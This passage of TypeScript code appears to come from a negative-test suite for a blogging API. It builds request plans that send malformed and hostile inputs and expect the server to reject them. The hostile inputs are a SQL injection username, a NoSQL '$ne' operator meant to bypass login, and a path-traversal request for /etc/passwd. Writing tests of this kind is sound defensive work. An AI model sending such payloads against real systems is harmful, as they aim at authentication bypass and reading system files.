        note: `title ${JSON.stringify(title)}`,
      },
    });
  }
  for (const [what, username] of [
    ['SQL', "' OR 1=1 --"],
    ['zero-width', 'zero\u200Bwidth'],
    ['NUL', 'nul\u0000byte'],
  ] as const) {
    add({
      label: `CreateUser: ${what} username`,
      method: 'POST',
      template: '/users',
      op: 'CreateUser',
      token: { kind: 'none' },
      body: {
        kind: 'json',
        value: { user: { username, email: FIXTURE.freshEmail, password: 'password123' } },
        check: maybe(422),
        note: `${what} username`,
      },
    });
  }
  add({
    label: 'Login: NUL in the email',
    method: 'POST',
    template: '/users/login',
    op: 'Login',
    token: { kind: 'none' },
    body: {
      kind: 'json',
      value: { user: { email: 'nul\u0000@example.com', password: 'password123' } },
      check: fail(400, 401, 422),
      note: 'NUL email',
    },
  });
  add({
    label: 'CreateArticleComment: NUL in the body',
    method: 'POST',
    template: '/articles/:slug/comments',
    op: 'CreateArticleComment',
    slug: 'sandbox',
    token: { kind: 'valid' },
    body: {
      kind: 'json',
      value: { comment: { body: 'nul\u0000byte' } },
      check: maybe(422),
      note: 'NUL comment',
    },
  });
  add({
    label: 'GetProfileByUsername: NUL',
    method: 'GET',
    template: '/profiles/:username',
    op: 'GetProfileByUsername',
    username: { random: '\u0000' },
    token: { kind: 'none' },
  });
  plans.push(...fc.sample(takenPlan(), { numRuns: 6, seed: 1 }));
  add({
    label: 'Login: NoSQL operator',
    method: 'POST',
    template: '/users/login',
    op: 'Login',
    token: { kind: 'none' },
    body: {
      kind: 'json',
      value: { user: { email: FIXTURE.email, password: { $ne: null } } },
      check: fail(400, 401, 422),
      note: 'NoSQL operator',
    },
  });
  add({
    label: 'unknown route',
    method: 'GET',
    template: '/nope',
    token: { kind: 'none' },
    routeCheck: fail(400, 404, 405),
  });
  add({
    label: 'unknown route',
    method: 'GET',
    template: '/../../etc/passwd',
    token: { kind: 'none' },
    routeCheck: fail(400, 404, 405),
  });
  add({
    label: 'PATCH an article',
    method: 'PATCH',
    template: '/articles/:slug',
    slug: 'fixture',
    token: { kind: 'valid' },
    routeCheck: fail(400, 404, 405),
    body: { kind: 'json', value: { article: { title: 'patched' } }, check: pass, note: 'patch' },
  });
  add({
    label: 'DELETE /tags',
    method: 'DELETE',
    template: '/tags',
    token: { kind: 'valid' },
    routeCheck: fail(400, 404, 405),
  });
  add({
    label: 'PUT /users/login',
    method: 'PUT',
    template: '/users/login',
    token: { kind: 'none' },
    routeCheck: fail(400, 404, 405),
  });
  return plans;
}

/** A well-formed body for a route, or none for routes that take no body. */
function sampleBody(op: OperationId): BodyPlan | undefined {
  const bodies: Partial<Record<OperationId, unknown>> = {
    Login: { user: { email: FIXTURE.email, password: 'not-the-password' } },
    CreateUser: {
      user: { username: FIXTURE.freshUsername, email: FIXTURE.freshEmail, password: 'password123' },
    },
    UpdateCurrentUser: { user: { bio: 'hijacked bio', image: 'https://example.com/x.png' } },
    CreateArticle: { article: { title: 'hijacked', description: 'd', body: 'b', tagList: ['x'] } },
    UpdateArticle: { article: { title: 'hijacked', body: 'hijacked' } },
    CreateArticleComment: { comment: { body: 'hijacked comment' } },
  };
  const value = bodies[op];
  if (value === undefined) return undefined;
  return {
    kind: 'json',
    value,
    check: op === 'Login' ? fail(400, 401, 422) : maybe(422),
    note: 'well-formed',
  };
}
